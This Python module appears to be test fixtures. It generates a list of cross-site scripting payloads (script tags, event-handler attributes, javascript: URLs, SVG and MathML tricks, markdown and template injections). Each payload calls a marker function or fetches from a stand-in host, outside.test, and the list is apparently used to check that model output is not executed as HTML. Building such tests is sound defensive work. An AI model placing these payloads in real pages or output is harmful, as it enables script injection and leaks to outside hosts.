"""What an attacker would have a model say: each text runs `ran(number)` where it is taken for HTML.

Sources: OWASP's cheat sheet on evading filters, PortSwigger's list of vectors.
"""

from __future__ import annotations

OUTSIDE = "http://outside.test"

# What runs, or what asks another host.
_SINKS = ("ran({n})", "fetch('" + OUTSIDE + "/{n}')")
_VECTORS = (
    "<script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    '"><script>{run}</script>',
    "</script><script>{run}</script>",
    "<img src=x onerror={run}>",
    '<img src=x onerror="{run}">',
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "<img src=x:x onerror={run}//",
    "<IMG SRC=x ONERROR={run}>",
    "<img/src=x/onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    '<svg><a xlink:href="javascript:{run}"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<body onload={run}>",
    "<iframe onload={run}></iframe>",
    '<iframe src="javascript:{run}"></iframe>',
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<video><source onerror={run}></video>",
    "<video src=x onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    '<a href="javascript:{run}">press</a>',
    "[press](javascript:{run})",
    "![x](x'onerror='{run})",
    "<form action=javascript:{run}><button>press</button></form>",
    "<button formaction=javascript:{run}>press</button>",
    '<link rel=stylesheet href="' + OUTSIDE + '/{n}.css" onerror={run}>',
    "<style onload={run}></style>",
    "<style>@import '" + OUTSIDE + "/{n}.css';</style><img src=x onerror={run}>",
    "<meta http-equiv=refresh content='9;url=javascript:{run}'>",
    "<base href=" + OUTSIDE + "/><script src={n}.js onerror={run}></script>",
    "<marquee onstart={run}>x</marquee>",
    "<div style=\"background:url('" + OUTSIDE + "/{n}')\" onmouseover={run}>x</div>",
    "${{{run}}} {{{{{run}}}}} <%= {run} %>",
    "javascript:{run}",
    "<x onclick={run} tabindex=0 autofocus onfocus={run}>x",
)

PAYLOADS = tuple(
    vector.format(run=sink.format(n=number), n=number)
    for number, (sink, vector) in enumerate(
        (sink, vector) for sink in _SINKS for vector in _VECTORS
    )
)
